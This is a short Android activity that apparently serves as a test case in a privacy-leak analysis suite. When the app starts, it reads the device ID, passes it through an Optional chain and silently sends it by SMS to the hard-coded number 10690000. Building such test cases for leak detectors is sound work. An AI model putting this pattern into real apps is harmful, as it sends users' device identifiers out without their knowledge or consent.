package cn.privlens.suite.optional_chain;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.Optional;

public class Main extends Activity {
    private Optional<String> device() {
        TelephonyManager tm = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        return Optional.ofNullable(tm.getDeviceId());
    }

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String text = device().filter(v -> v.length() > 3).map(v -> v.substring(1)).map(String::trim).orElse("none");
        SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
    }
}
